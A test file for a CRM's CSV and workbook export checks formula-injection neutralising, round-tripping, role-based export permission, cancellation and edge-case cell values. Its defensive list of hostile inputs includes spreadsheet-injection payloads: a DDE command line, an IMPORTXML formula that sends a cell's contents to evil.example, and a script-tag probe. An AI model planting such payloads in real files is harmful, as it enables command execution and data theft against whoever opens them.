/** What an export must never do: run in a spreadsheet, lose or bend a text, leave half a file, or hand a list to somebody who may not see it. */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { bytesAsFile } from '../../src/platform/csvFile.ts';
import type { OutRow } from '../../src/platform/outCell.ts';
import { writeCsv, writeXlsx } from '../../src/platform/spreadsheetOut.ts';
import { readWorkbook } from '../../src/platform/xlsxFile.ts';
import { entries } from '../../src/shared/contract.ts';
import { readCsv } from '../../src/shared/imports/csvRows.ts';
import { anApp } from '../support/anApp.ts';
import { nok } from '../support/builders.ts';
import { makeDir, removeDir } from '../support/tempDir.ts';

/** Texts that a spreadsheet, a page or a reader could take for something else. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '@SUM(A1:A9)',
  '-2+3+cmd|x',
  '+cmd|x!A1',
  '-@SUM(A1)',
  '  =1+1',
  '=',
  '@',
  '-',
  '+',
  '+47 22 33 44 55',
  '+4722334455',
  '+1 (555) 010-9999',
  '-5',
  '-1234,50',
  '-12.5 %',
  "'=kept",
  "''twice",
  "'plain",
  '"quoted"; \u{1F680}',
  'a;b,c|d',
  '<script>alert(1)</script>',
  '&lt;b&gt; & "',
  'שלום עולם',
  '\u202Eabc',
  'Åse Ærø Øst',
  '_x0041_ and _x000D_',
  '👩‍👩‍👧 familie',
  '0047',
  '1e5',
  '2026-11-22',
  'TRUE',
  '#REF!',
] as const;

const isDangerous = (cell: string): boolean => {
  const bare = cell.replace(/^"/, '').trimStart();
  if (/^[=@]/.test(bare) && bare.replace(/"$/, '').length > 1) return true;
  return /^[-+]/.test(bare) && /[A-Za-z@!|]/.test(bare);
};

const cellsOf = (csv: string): readonly (readonly string[])[] => {
  const rows: (readonly string[])[] = [];
  const read = readCsv([csv.replace('\uFEFF', '')], { delimiter: ';' }, ({ cells }) => {
    rows.push(cells);
    return true;
  });
  if (!read.ok) throw new Error(read.error.type);
  return rows;
};

describe('texts that a spreadsheet would run', () => {
  it('leave every list harmless as CSV, and as plain text cells in a workbook', async () => {
    const { call, exported } = await anApp();
    const { id: accountId } = await call<{ readonly id: string }>('accounts.create', { name: 'Fjord AS' });
    for (const text of hostile) {
      await call('pipeline.createDeal', { title: text, accountId, amount: nok(-1), nextStep: text });
      await call('accounts.create', { name: text, location: text });
      await call('accounts.createContact', { accountId, name: text, phone: text, email: text, title: text });
    }
    for (const list of ['deals', 'accounts', 'contacts']) {
      const asked = { ...(list === 'deals' ? { status: null } : {}), language: 'nb' };
      const text = readFileSync((await exported(list, { ...asked, format: 'csv' })).path, 'utf8');
      const cells = cellsOf(text).flat();
      expect(cells.length).toBeGreaterThan(hostile.length * 5);
      expect(cells.filter(isDangerous)).toEqual([]);
      for (const phone of ['+47 22 33 44 55', '+4722334455', '-5', '-1234,50']) expect(cells).toContain(phone);

      const workbook = await exported(list, { ...asked, format: 'xlsx' });
      const sheet = readWorkbook(bytesAsFile('x.xlsx', readFileSync(workbook.path)));
      if (!sheet.ok) throw new Error(sheet.error.type);
      expect(sheet.value.rows.flatMap(({ formulas }) => formulas)).toEqual([]);
      const inSheet = new Set(sheet.value.rows.flatMap((row) => row.cells));
      expect(hostile.filter((each) => !inSheet.has(each.trim()) && !inSheet.has(each))).toEqual([]);
    }
  });

  it.each(['csv', 'xlsx'] as const)('come back from %s as they were', async (format) => {
    const from = await anApp();
    for (const title of hostile) await from.call('pipeline.createDeal', { title, amount: nok(1_234) });
    const { path } = await from.exported('deals', { status: null, format, language: 'nb' });
    const to = await anApp();
    await to.call('imports.run', { grant: to.app.files.lend(path) });
    const { rows } = await to.call<{ readonly rows: readonly { readonly title: string; readonly amount: unknown }[] }>('pipeline.deals', {
      status: null,
      limit: 200,
    });
    expect(rows.map(({ title }) => title).toSorted((a, b) => (a < b ? -1 : 1))).toEqual(
      hostile.map((title) => title.trim()).toSorted((a, b) => (a < b ? -1 : 1)),
    );
    expect(
      new Set(rows.map(({ amount }) => JSON.stringify(amount, (_key, part: unknown) => (typeof part === 'bigint' ? String(part) : part)))),
    ).toEqual(new Set(['{"minor":"123400","currency":"NOK"}']));
  });
});

describe('who may export', () => {
  it('is who may see the list: a guest none of them, a seller all of them', async () => {
    const app = await anApp();
    const exporting = entries.filter(({ name }) => name.startsWith('exports.') && name !== 'exports.cancel');
    expect(exporting.length).toBe(10);
    const seller = await app.aPerson('Sara', 'seller');
    const guest = await app.aPerson('Gro', 'guest');
    app.actAs(seller);
    for (const { name } of exporting) expect(await app.callRaw(name, { format: 'csv', language: 'sv' }), name).toMatchObject({ ok: true });
    app.actAs(guest);
    for (const { name } of exporting)
      expect(await app.callRaw(name, { format: 'csv', language: 'sv' }), name).toMatchObject({ ok: false, error: { type: 'NotAllowed' } });
  });
});

describe('an export', () => {
  it('that is stopped leaves no file, and reads are answered meanwhile', async () => {
    const { app, dir, call } = await anApp();
    await call('pipeline.createDeal', { title: 'One' });
    const running = app.call('exports.deals', { format: 'xlsx', language: 'en', taskId: 'mine' });
    expect(await call('pipeline.kpi')).toMatchObject({ openCount: 1 });
    expect(await call('exports.cancel', { taskId: 'mine' })).toEqual({ wasRunning: true });
    expect(await running).toEqual({ ok: false, error: { type: 'ExportStopped' } });
    expect(readdirSync(join(dir, 'staging'))).toEqual([]);
    expect(await call('exports.cancel', { taskId: 'mine' })).toEqual({ wasRunning: false });
  });

  const folder = (): string => {
    const dir = makeDir('out');
    onTestFinished(() => {
      removeDir(dir);
    });
    return dir;
  };

  it.each(['CSV', 'a workbook'] as const)('writes %s while its rows are still coming', (kind) => {
    const path = join(folder(), 'file');
    const sizes: number[] = [];
    const rows = function* (): Generator<OutRow> {
      for (let row = 0; row < 60_000; row++) {
        if (row % 20_000 === 0) sizes.push(existsSync(path) ? statSync(path).size : -1);
        yield [{ is: 'text', text: `Row ${row} ${Math.imul(row, 2_654_435_761)}` }];
      }
    };
    const heads = [{ head: 'Text', width: 20 }];
    const written = kind === 'CSV' ? writeCsv(path, heads, rows(), '.') : writeXlsx(path, 'Rows', heads, rows());
    expect(written).toEqual({ ok: true, value: null });
    const [first = 0, second = 0, third = 0] = sizes;
    expect(second).toBeGreaterThan(first);
    expect(third).toBeGreaterThan(second);
  });

  it('of what XML and numbers cannot hold keeps everything that they can', () => {
    const path = join(folder(), 'file.xlsx');
    const texts = ['a\u0000b\u0007c', 'half \uD83D pair', 'tab\tand\nline', 'carriage\r\nreturn', 'x'.repeat(40_000), '_x005F_'];
    const cells: OutRow = [
      ...texts.map((text) => ({ is: 'text', text }) as const),
      { is: 'number', text: '12345678901234.56', decimals: 2 },
      { is: 'number', text: '-0.01', decimals: 2 },
      { is: 'number', text: '123456789012345', decimals: 0 },
      { is: 'day', day: '1899-12-31' },
      { is: 'day', day: '1900-03-01' },
      { is: 'day', day: '9999-12-31' },
      null,
    ];
    const written = writeXlsx(
      path,
      'a/b:c*',
      cells.map((_, at) => ({ head: `H${at}`, width: 10 })),
      [cells],
    );
    expect(written.ok).toBe(true);
    const sheet = readWorkbook(bytesAsFile('x.xlsx', readFileSync(path)));
    if (!sheet.ok) throw new Error(sheet.error.type);
    expect(sheet.value.sheet).toBe('a b c ');
    expect(sheet.value.rows[1]?.cells).toEqual([
      'abc',
      'half  pair',
      'tab\tand\nline',
      'carriage\nreturn',
      'x'.repeat(32_767),
      '_x005F_',
      '12345678901234.56',
      '-0.01',
      '123456789012345',
      '1899-12-31',
      '1900-03-01',
      '9999-12-31',
    ]);
  });

  it('to where nothing can be written says so', () => {
    const path = join(folder(), 'not', 'there');
    expect(writeCsv(path, [], [], '.')).toEqual({ ok: false, error: { type: 'StoreIoError' } });
    expect(writeXlsx(path, 'x', [], [])).toEqual({ ok: false, error: { type: 'StoreIoError' } });
  });
});
